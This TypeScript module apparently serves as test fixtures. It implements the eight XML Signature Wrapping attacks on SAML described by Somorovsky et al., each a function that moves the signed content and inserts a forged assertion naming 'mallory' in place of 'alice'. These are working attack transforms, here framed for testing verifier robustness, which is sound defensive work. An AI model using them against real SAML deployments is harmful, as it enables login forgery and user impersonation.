/**
 * The eight ways to wrap a signature around something else than what is read (Somorovsky et al., On Breaking SAML,
 * 2012). Of each the forged part says mallory, and the part that was signed still stands somewhere, unharmed.
 */

export const assertionIn = (xml: string): string =>
  /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '';
/** Without the first signature: the response's where both are signed. */
export const withoutSignature = (xml: string): string => xml.replace(/<Signature .*?<\/Signature>/s, '');
export const signatureIn = (xml: string): string => /<Signature .*?<\/Signature>/s.exec(xml)?.[0] ?? '';
export const evil = (xml: string): string => xml.replaceAll('>alice<', '>mallory<');
export const renamed = (xml: string): string => xml.replace(/(<saml:Assertion ID=")[^"]+/, '$1_evil');

const renamedResponse = (xml: string): string => xml.replace(/(<samlp:Response [^>]*?ID=")[^"]+/, '$1_evil');
const forged = (assertion: string): string => evil(renamed(assertion));
const behind = (xml: string, end: string, piece: string): string => xml.replace(end, piece + end);

export interface Wrapping {
  readonly name: string;
  readonly sign: readonly ('assertion' | 'response')[];
  /** Changes the text after it was signed. */
  readonly after: (xml: string) => string;
}

export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW 1: the signed response inside the signature of a forged one',
    sign: ['assertion', 'response'],
    after: (xml) => {
      const good = withoutSignature(xml);
      return evil(renamedResponse(xml)).replace('</Signature>', `${good}</Signature>`);
    },
  },
  {
    name: 'XSW 2: the signed response before the signature in a forged one',
    sign: ['assertion', 'response'],
    after: (xml) => {
      const signature = signatureIn(xml);
      return evil(renamedResponse(xml)).replace(signature, withoutSignature(xml) + signature);
    },
  },
  {
    name: 'XSW 3: a forged assertion before the signed one',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      return xml.replace(good, forged(withoutSignature(good)) + good);
    },
  },
  {
    name: 'XSW 4: the signed assertion inside a forged one',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      return xml.replace(good, behind(forged(withoutSignature(good)), '</saml:Assertion>', good));
    },
  },
  {
    name: 'XSW 5: the signature on a forged assertion, what it signed at the end',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      return xml.replace(good, forged(good) + withoutSignature(good));
    },
  },
  {
    name: 'XSW 6: the signature on a forged assertion, what it signed inside the signature',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      return xml.replace(good, behind(forged(good), '</Signature>', withoutSignature(good)));
    },
  },
  {
    name: 'XSW 7: a forged assertion of the same id in extensions before the signed one',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      const extensions = `<samlp:Extensions>${evil(withoutSignature(good))}</samlp:Extensions>`;
      return xml.replace(good, extensions + good);
    },
  },
  {
    name: 'XSW 8: the signature on a forged assertion, what it signed in an object of the signature',
    sign: ['assertion'],
    after: (xml) => {
      const good = assertionIn(xml);
      const object = `<Object>${withoutSignature(good)}</Object>`;
      return xml.replace(good, behind(forged(good), '</Signature>', object));
    },
  },
];
